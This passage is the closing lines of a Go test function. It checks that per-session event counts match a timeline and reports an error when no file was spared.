				t.Errorf("%s %s: %d events, %d in the whole timeline", version, session, len(told), len(of[session]))
			}
		}
	}
	if spared == 0 {
		t.Error("no file was spared")
	}
}
